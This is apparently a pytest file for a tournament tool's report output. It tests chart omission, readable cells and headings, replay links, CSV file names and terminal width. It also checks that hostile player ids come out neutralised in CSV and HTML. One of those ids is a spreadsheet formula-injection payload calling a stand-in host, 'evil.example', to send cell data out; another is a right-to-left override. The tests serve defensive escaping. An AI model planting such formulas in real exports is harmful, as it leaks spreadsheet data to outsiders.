"""The report as a newcomer reads it (issue 40, items 11-16; issue 36, item 14): no empty
chart, no Python repr in a cell, headings in words, a games page linking every game to
its replay, CSV file names without spaces or colons, whole player names at 80 columns,
and player ids that cannot run as a spreadsheet formula or turn text around."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from stille_post.core.exports import FORMULA_START, csv_cell, csv_text, inert
from stille_post.tournament import TournamentConfig, run_tournament
from stille_post.tournament.charts import all_charts
from stille_post.tournament.present import cell, heading
from stille_post.tournament.report import build_report, write_csv, write_html
from tests import clirun

pytestmark = pytest.mark.heavy

# Player ids as an imported log may carry them: a formula, a direction override.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BACKWARDS = "bot:\u202eevil"
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _play(folder: Path, game: str, players: tuple[str, ...], games: int,
          options: dict[str, Any] | None = None) -> Path:
    asyncio.run(run_tournament(TournamentConfig(game=game, games=games, seed=5,
                                                players=players, options=options or {}),
                               folder, durable=False))
    return folder


def _rename_players(folder: Path, names: dict[str, str]) -> None:
    """Rewrite every transcript's seat labels (as an import of hostile logs would write
    them) and drop the index, which is rebuilt from the transcripts."""
    for path in (folder / "games").glob("*.jsonl"):
        lines = path.read_text(encoding="utf-8").splitlines()
        header = json.loads(lines[0])
        for info in header["seats"].values():
            info["player"] = names.get(info["player"], info["player"])
        lines[0] = json.dumps(header, ensure_ascii=False)
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "index.sqlite").unlink()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = _play(tmp_path_factory.mktemp("hostile") / "sp", "stille-post",
                   ("detective", "random", "gambler", "cautious"), 6, {"max_rounds": 1})
    _rename_players(folder, {"bot:random": FORMULA, "bot:gambler": BACKWARDS})
    return folder


@pytest.fixture(scope="module")
def lone(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Chameleon with one bot in every seat: metrics with intervals and counts."""
    return _play(tmp_path_factory.mktemp("lone") / "cham", "chameleon", ("heuristic",) * 4, 6)


def _csv_files(folder: Path) -> list[Path]:
    files = sorted(folder.rglob("*.csv"))
    assert files, folder
    return files


def test_every_csv_writer_keeps_formulas_and_overrides_inert(hostile: Path,
                                                             tmp_path: Path) -> None:
    """report --csv (leaderboard, player metrics, adherence, tables, games) and the
    cross-game leaderboard.csv: the hostile ids are there, as text."""
    done = clirun.run_cli("report", str(hostile), "--csv", str(tmp_path / "csv"), cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    done = clirun.run_cli("leaderboard", str(hostile), "--out", str(tmp_path / "lb"),
                          cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    files = _csv_files(tmp_path)
    names = {p.name for p in files}
    assert {"leaderboard.csv", "player_metrics.csv", "adherence.csv", "games.csv"} <= names
    assert any(n.startswith("table_") for n in names)
    seen_formula = seen_backwards = 0
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert not BIDI.search(text), path
        for row in csv.reader(io.StringIO(text)):
            for value in row:
                assert not value.startswith(FORMULA_START), (path.name, value)
            seen_formula += sum(v == "'" + FORMULA for v in row)
            seen_backwards += sum(v == "bot:\\u202eevil" for v in row)
    # The names reached the files, neutralised (the checks above had something to check).
    assert seen_formula >= 4 and seen_backwards >= 4, (seen_formula, seen_backwards)


def test_csv_cells() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert [csv_cell(x) for x in ("+1", "-1", "@SUM(A1)", "\t=x", "\r=x")] == [
        "'+1", "'-1", "'@SUM(A1)", "'\t=x", "\\x0d=x"]  # CR: shown as its escape
    assert csv_cell(-1.5) == -1.5 and csv_cell(3) == 3 and csv_cell(None) == ""
    assert csv_cell(["a", 1]) == '["a",1]' and csv_cell({"k": 0}) == '{"k":0}'
    assert csv_cell("a\u202eb\u2066c") == "a\\u202eb\\u2066c"
    assert csv_cell("two\nlines, fine") == "two\nlines, fine"
    assert csv_text(["=h"], [["=x", 1]]) == "'=h\n'=x,1\n"


def test_html_pages_show_overrides_as_escapes(hostile: Path, tmp_path: Path) -> None:
    report = build_report(hostile, passes=2)
    page = write_html(report, tmp_path / "report.html")
    pages = [page, tmp_path / "report-games.html", *sorted((tmp_path / "report-replays")
                                                             .glob("*.html"))]
    assert len(pages) == 2 + 6
    for p in pages:
        text = p.read_text(encoding="utf-8")
        assert not BIDI.search(text), p.name
        assert "\\u202e" in text, p.name  # shown, escaped
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1" in page.read_text(
        encoding="utf-8")  # text, escaped (a browser does not run formulas)
    assert inert(BACKWARDS) == "bot:\\u202eevil"


def test_report_values_are_for_people(lone: Path, tmp_path: Path) -> None:
    """The Chameleon's metrics hold an interval and counts by outcome: the page shows
    `0.000–0.161` and `IdentifiedWin: 0 · ...`, never a Python list or dict, and its
    headings are words."""
    report = build_report(lone, passes=2)
    overall = report["metrics"]["overall"]
    assert isinstance(overall["non_chameleon_win_rate_ci95"], list)
    assert isinstance(overall["outcomes"], dict)
    text = write_html(report, tmp_path / "r.html").read_text(encoding="utf-8")
    cells = [html.unescape(re.sub(r"<[^>]+>", "", c)).strip()
             for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", text, re.S)]
    assert cells
    for c in cells:
        assert not re.search(r"\[[\d.'\"-]|\{'|': ", c), c  # a repr: [0.0, ...], {'k': ...}
        assert not re.fullmatch(r"[a-z0-9]+(_[a-z0-9]+)+", c), c  # a snake_case name
    lo, hi = overall["non_chameleon_win_rate_ci95"]
    assert f"{lo:.3f}–{hi:.3f}" in cells
    assert "non-chameleon win rate (95% CI)" in cells
    assert any(c.startswith("IdentifiedWin: ") and " · " in c for c in cells)


def test_headings_and_cells() -> None:
    assert heading("non_chameleon_win_rate_ci95") == "non-chameleon win rate (95% CI)"
    assert heading("final2_win_rate") == "final 2 win rate"
    assert heading("rule adherence: refused replies by kind") == \
        "rule adherence: refused replies by kind"
    assert heading("IdentifiedWin") == "IdentifiedWin" and heading("games") == "games"
    assert cell([0.0, 0.0876]) == "0.000–0.088"
    assert cell({"IdentifiedWin": 0, "Fail": 2}) == "IdentifiedWin: 0 · Fail: 2"
    assert cell(None) == "–" and cell(True) == "yes" and cell(3) == "3"
    assert cell(["a", "b"]) == "a, b"


def test_a_chart_with_nothing_in_it_is_left_out(hostile: Path) -> None:
    board = build_report(hostile, passes=2)["leaderboard"]
    assert all(r["dollars_per_game"] == 0 for r in board)  # bots spend nothing
    assert list(all_charts(board)) == ["TrueSkill μ ± σ", "Rank distribution",
                                       "Win rate with 95% CI"]
    priced = [{**r, "dollars_per_game": 0.01 * i} for i, r in enumerate(board)]
    assert "Cost versus strength" in all_charts(priced)


def test_the_games_page_links_every_game_to_its_replay(hostile: Path, tmp_path: Path) -> None:
    report = build_report(hostile, passes=2)
    page = write_html(report, tmp_path / "out" / "my report.html")
    text = page.read_text(encoding="utf-8")
    games = tmp_path / "out" / "my report-games.html"
    assert 'href="my report-games.html"' in text
    listing = games.read_text(encoding="utf-8")
    links = re.findall(r'<a class="replay" href="([^"]+)"', listing)
    ids = re.findall(r'<tr class="game [a-z]+" data-id="([^"]+)"', listing)
    assert len(ids) == report["games"]["planned"] == len(links) == 6
    from urllib.parse import unquote

    for game_id, link in zip(ids, links, strict=True):
        replay = games.parent / unquote(link)
        assert replay.is_file(), link
        assert replay.name == f"{game_id}.html"
        seed = int(game_id.rsplit("-s", 1)[1])
        assert f"seed {seed}</title>" in replay.read_text(encoding="utf-8")
    # A second report keeps the replays it already wrote (they are newer than their games).
    before = {p.name: p.stat().st_mtime_ns for p in (games.parent / "my report-replays")
              .iterdir()}
    write_html(report, page)
    after = {p.name: p.stat().st_mtime_ns for p in (games.parent / "my report-replays")
             .iterdir()}
    assert after == before


def test_csv_file_names_have_no_spaces_or_colons(hostile: Path, tmp_path: Path) -> None:
    report = build_report(hostile, passes=2)
    assert any(" " in n or ":" in n for n in report["metrics"]["tables"])  # teeth
    names = [p.name for p in write_csv(report, tmp_path)]
    assert len(names) == len(set(names))
    for name in names:
        assert re.fullmatch(r"[a-z0-9_-]+\.csv", name), name
    assert "table_rule_adherence_refused_replies_by_kind.csv" in names


LONG = {"bot:detective": "detective-the-long-named-bot",
        "bot:random": "random-the-long-named-bot",
        "bot:gambler": "gambler-the-long-named-bot",
        "bot:cautious": "cautious-the-long-named-bot"}


def test_at_80_columns_without_a_tty_player_names_stay_whole(tmp_path: Path) -> None:
    folder = _play(tmp_path / "sp", "stille-post", ("detective", "random", "gambler",
                                                     "cautious"), 4, {"max_rounds": 1})
    labels = tmp_path / "labels.toml"
    labels.write_text("".join(f'"{k}" = "{v}"\n' for k, v in LONG.items()), encoding="utf-8")
    env = {**clirun.keyless_env(), "COLUMNS": "80"}
    done = clirun.run_cli("report", str(folder), "--labels", str(labels), cwd=tmp_path,
                          env=env)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert max(len(line) for line in lines) <= 80
    assert "…" not in done.stdout
    board = done.stdout.split("TrueSkill leaderboard", 1)[1].split("rule adherence", 1)[0]
    for name in LONG.values():
        assert name in board, board  # whole, on one line of the leaderboard
    assert "not shown at this width:" in board  # a column went instead
    per_player = done.stdout.split("game metrics per player", 1)[1]
    for name in LONG.values():
        assert name in per_player or "\n" in per_player  # split over tables, never cut
    assert sum(name in per_player for name in LONG.values()) == 4


def test_replay_pages_stop_at_the_limit_and_the_rest_show_their_command(
        hostile: Path, tmp_path: Path) -> None:
    report = build_report(hostile, passes=2)
    page = write_html(report, tmp_path / "r.html", replays=4)
    listing = (tmp_path / "r-games.html").read_text(encoding="utf-8")
    assert len(re.findall(r'<a class="replay" href=', listing)) == 4
    assert len(list((tmp_path / "r-replays").iterdir())) == 4
    # The two games past the limit are still listed, each with its view command.
    assert len(re.findall(r'<tr class="game [a-z]+" data-id=', listing)) == 6
    assert listing.count("stille-post view") >= 2
    write_html(report, page, replays=0)
    listing = (tmp_path / "r-games.html").read_text(encoding="utf-8")
    assert not re.findall(r'<a class="replay" href=', listing)


def test_report_replays_option_refuses_what_is_not_a_count(hostile: Path,
                                                            tmp_path: Path) -> None:
    done = clirun.run_cli("report", str(hostile), "--html", str(tmp_path / "r.html"),
                          "--replays", "many", cwd=tmp_path)
    assert done.returncode == 2
    assert "--replays 'many'" in done.stderr and "Traceback" not in done.stderr
    assert not (tmp_path / "r.html").exists()
